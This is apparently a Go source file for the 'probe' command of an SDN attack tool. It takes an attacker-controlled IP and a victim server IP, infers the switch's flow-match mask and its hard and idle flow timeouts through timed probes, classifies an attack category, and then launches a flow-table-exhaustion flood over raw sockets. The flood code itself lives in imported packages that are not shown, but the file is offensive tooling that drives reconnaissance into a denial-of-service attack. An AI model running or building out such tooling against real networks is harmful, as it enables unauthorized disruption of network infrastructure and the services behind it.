package commands

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/google/uuid"
	"github.com/spf13/cobra"

	"github.com/ssmendon/sdnprobe/internal/adapters/reporting"
	"github.com/ssmendon/sdnprobe/internal/adapters/results"
	"github.com/ssmendon/sdnprobe/internal/adapters/storage"
	"github.com/ssmendon/sdnprobe/internal/adapters/transport/mock"
	"github.com/ssmendon/sdnprobe/internal/adapters/transport/rawsock"
	"github.com/ssmendon/sdnprobe/internal/adapters/web"
	"github.com/ssmendon/sdnprobe/internal/core/domain"
	"github.com/ssmendon/sdnprobe/internal/core/ports"
	"github.com/ssmendon/sdnprobe/internal/core/services/attack"
	"github.com/ssmendon/sdnprobe/internal/core/services/probe"
	"github.com/ssmendon/sdnprobe/internal/telemetry"
)

func probeCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "probe [attacker_ip] [server_ip]",
		Short: "Infer the SDN switch's timeout configuration and launch the matching flood",
		Long: "probe takes the attacker-controlled source IP and the victim server IP\n" +
			"as positional arguments, falling back to --attacker-ip/--server-ip\n" +
			"(or their SDNPROBE_ATTACKER_IP/SDNPROBE_SERVER_IP env vars) when omitted.",
		Args: cobra.MaximumNArgs(2),
		RunE: func(cmd *cobra.Command, args []string) error {
			attackerIP, serverIP := cfg.AttackerIP, cfg.ServerIP
			if len(args) > 0 {
				attackerIP = args[0]
			}
			if len(args) > 1 {
				serverIP = args[1]
			}
			return runProbe(cmd.Context(), attackerIP, serverIP)
		},
	}
}

func buildTransport() (ports.Transport, error) {
	if cfg.MockMode {
		slog.Info("probe: using mock transport, no real packets will be sent")
		return mock.New(), nil
	}
	return rawsock.New(cfg.Interface)
}

func runProbe(ctx context.Context, attackerIP, serverIP string) error {
	telemetry.InitMetrics()

	transport, err := buildTransport()
	if err != nil {
		return fmt.Errorf("probe: build transport: %w", err)
	}
	defer transport.Close()

	hub := web.NewHub()
	var sessionRepo ports.SessionRepository
	if db, dbErr := storage.NewSQLiteAdapter(cfg.DBPath); dbErr != nil {
		slog.Warn("probe: session history database unavailable", "error", dbErr)
	} else {
		defer db.Close()
		sessionRepo = db
	}
	go serveStatus(ctx, hub, sessionRepo)

	sampler := probe.NewRttSampler(transport)
	sampler.Timeout = time.Duration(cfg.RTTTimeoutMS) * time.Millisecond

	hub.Broadcast(web.ProgressEvent{Type: "status", Phase: "field_probe", Message: "inferring source-MAC matcher mask"})
	fieldProbe := probe.NewFieldPresenceProbe(sampler)
	mask, err := fieldProbe.Run(ctx, attackerIP, serverIP)
	if err != nil {
		return fmt.Errorf("probe: field presence probe: %w", err)
	}
	slog.Info("probe: source-MAC matcher mask inferred", "mask", mask)

	hub.Broadcast(web.ProgressEvent{Type: "status", Phase: "hard_timeout", Message: "measuring hard timeout"})
	hardProber := probe.NewHardTimeoutProber(sampler)
	hardProber.N = cfg.ProbeSamples
	hard, err := hardProber.Run(ctx, attackerIP, serverIP)
	if err != nil {
		return fmt.Errorf("probe: hard timeout probe: %w", err)
	}
	slog.Info("probe: hard timeout discovered", "seconds", hard)

	tSup := hard
	if tSup <= 0 {
		tSup = 60
	}
	if err := sleepCtx(ctx, time.Duration(tSup)*time.Second); err != nil {
		return fmt.Errorf("probe: waiting out hard timeout before idle probe: %w", err)
	}

	hub.Broadcast(web.ProgressEvent{Type: "status", Phase: "idle_timeout", Message: "binary-searching idle timeout"})
	idleProber := probe.NewIdleTimeoutProber(sampler, tSup)
	idleProber.N = cfg.ProbeSamples
	idle, err := idleProber.Run(ctx, attackerIP, serverIP)
	if err != nil {
		return fmt.Errorf("probe: idle timeout probe: %w", err)
	}
	slog.Info("probe: idle timeout discovered", "seconds", idle)

	category := attack.Classify(hard, idle)
	result := domain.ProbeResult{
		SessionID:   uuid.New().String(),
		Timestamp:   time.Now(),
		AttackerIP:  attackerIP,
		ServerIP:    serverIP,
		HardTimeout: hard,
		IdleTimeout: idle,
		Category:    category,
	}
	slog.Info("probe: attack category classified", "category", category, "session_id", result.SessionID)
	hub.Broadcast(web.ProgressEvent{Type: "classified", Phase: "classify", Message: "attack category classified", Payload: result})

	if err := persistResult(ctx, sessionRepo, result); err != nil {
		return err
	}

	hub.Broadcast(web.ProgressEvent{Type: "status", Phase: "attack", Message: "launching flow-table-exhaustion flood"})
	planner := attack.NewPlanner(transport, attackerIP, serverIP)
	err = planner.Run(ctx, category, idle)
	switch {
	case err == nil:
		return nil
	case errors.Is(err, context.Canceled), errors.Is(err, context.DeadlineExceeded):
		slog.Info("probe: attack flood stopped", "reason", err)
		return nil
	case errors.Is(err, domain.ErrAttackCategoryInvalid):
		slog.Warn("probe: no flood launched for this category", "category", category, "error", err)
		return nil
	default:
		return fmt.Errorf("probe: attack flood: %w", err)
	}
}

// serveStatus runs the live progress/session-history web server until ctx
// is cancelled, logging (not failing the probe run) if it can't bind.
func serveStatus(ctx context.Context, hub *web.Hub, db ports.SessionRepository) {
	srv := web.NewServer(hub, db, reporting.NewPDFExporter())
	if err := srv.ListenAndServe(ctx, cfg.Addr); err != nil && !errors.Is(err, context.Canceled) {
		slog.Warn("probe: status server stopped", "error", err)
	}
}

// persistResult appends result to the CSV results file and, best-effort,
// the already-opened structured session history database.
func persistResult(ctx context.Context, db ports.SessionRepository, result domain.ProbeResult) error {
	csvRepo := results.NewCSVRepository(cfg.ResultsCSV)
	if err := csvRepo.Append(ctx, result); err != nil {
		return fmt.Errorf("probe: append results csv: %w", err)
	}

	if db == nil {
		return nil
	}
	if err := db.SaveSession(ctx, result); err != nil {
		slog.Warn("probe: failed to save session history", "error", err)
	}
	return nil
}

// sleepCtx sleeps d or returns early with ctx's error if it is cancelled
// first, mirroring internal/core/services/probe's cancellation-aware sleep.
func sleepCtx(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return nil
	}
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-timer.C:
		return nil
	}
}
